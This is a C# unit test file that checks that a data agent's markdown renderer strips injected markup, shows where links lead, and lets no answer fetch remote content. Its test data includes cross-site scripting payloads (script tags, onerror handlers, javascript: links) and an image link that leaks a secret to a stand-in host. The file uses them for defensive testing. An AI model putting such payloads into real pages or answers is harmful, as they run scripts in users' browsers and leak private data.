using System.Text.Json.Nodes;
using System.Text.RegularExpressions;
using DataAgent.Web.Ui;

namespace DataAgent.Web.Tests.Ui;

public sealed class MarkdownBlocksTests
{
    [Theory]
    [InlineData("![x](https://elsewhere.example/?d=secret)", "<img")]
    [InlineData("<script>alert(1)</script>", "<script")]
    [InlineData("<img src=x onerror=alert(1)>", "<img")]
    [InlineData("[x](javascript:alert(1))", "javascript:")]
    [InlineData("[x](data:text/html,hi)", "data:")]
    [InlineData("```sql\nselect '<b onclick=x>'\n```", "<b ")]
    [InlineData("```<img src=x>\nhi\n```", "<img")]
    public void Text_of_a_model_or_a_row_brings_no_markup_of_its_own(string markdown, string never)
    {
        var html = Html(markdown);

        Assert.DoesNotContain(never, html, StringComparison.OrdinalIgnoreCase);
    }

    [Fact]
    public void A_link_opens_elsewhere_and_tells_nothing_of_us()
    {
        var html = Html("[docs](https://example.org)");

        Assert.Contains("rel=\"noopener noreferrer\"", html);
        Assert.Contains("target=\"_blank\"", html);
    }

    [Theory]
    [InlineData("[The report](https://collect.example/r)", "The report (collect.example)")]
    [InlineData("[https://intranet.example](https://collect.example/r)", "https://intranet.example (collect.example)")]
    [InlineData("[Ada](mailto:ada@collect.example)", "Ada (ada@collect.example)")]
    [InlineData("https://example.org/docs", "https://example.org/docs")]
    [InlineData("[x](https://xn--bcher-kva.example/)", "x (xn--bcher-kva.example)")]
    [InlineData("[x](https://bücher.example/)", "x (xn--bcher-kva.example)")]
    [InlineData("[x](https://collect.example/?d=aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa)", "x (collect.example, long address)")]
    public void A_link_says_where_it_leads(string markdown, string shown) =>
        Assert.Equal(shown, Regex.Replace(Html(markdown), "<[^>]+>", "").Trim());

    /// <summary>The answers that stored attacks ask for, as the tests of the agent have them.</summary>
    public static TheoryData<string> AnswersOfAttacks => [.. File.ReadLines(Path.Combine(AppContext.BaseDirectory, "attacks.jsonl"))
        .SelectMany(line => JsonNode.Parse(line)!["does"]!.AsArray()).Select(deed => (string?)deed!["answer"]).OfType<string>()];

    [Theory]
    [MemberData(nameof(AnswersOfAttacks))]
    public void No_answer_fetches_anything_when_it_is_shown(string answer)
    {
        var html = Html(answer.Replace("{told}", "4711", StringComparison.Ordinal));

        Assert.DoesNotMatch("(?i)<(?!/?(p|a|span|em|strong|del|code|pre|div|button|table|thead|tbody|tr|th|td|ul|ol|li|br|hr|h[1-6]|blockquote)[ >/])", html);
        Assert.DoesNotMatch("(?i)<[^>]*( src| srcset| poster| background| on[a-z]+| style=\"(?!text-align)|javascript:)", html);
    }

    [Fact]
    public void Figures_in_tables_keep_their_alignment() => Assert.Contains("text-align: right", Html("| a |\n|--:|\n| 1 |"));

    [Fact]
    public void While_text_grows_finished_blocks_stay_the_same_objects()
    {
        var blocks = new MarkdownBlocks();
        var before = blocks.Render("First.\n\nSec");

        var after = blocks.Render("First.\n\nSecond, and more");

        Assert.Same(before[0].Html, after[0].Html);
        Assert.Equal(before[1].Start, after[1].Start);
        Assert.Contains("Second, and more", after[1].Html);
    }

    [Fact]
    public void An_open_code_fence_already_shows_its_lines() => Assert.Contains("count", Html("```sql\nselect count(*)\nfrom"));

    private static string Html(string markdown) => string.Concat(new MarkdownBlocks().Render(markdown).Select(block => block.Html));
}
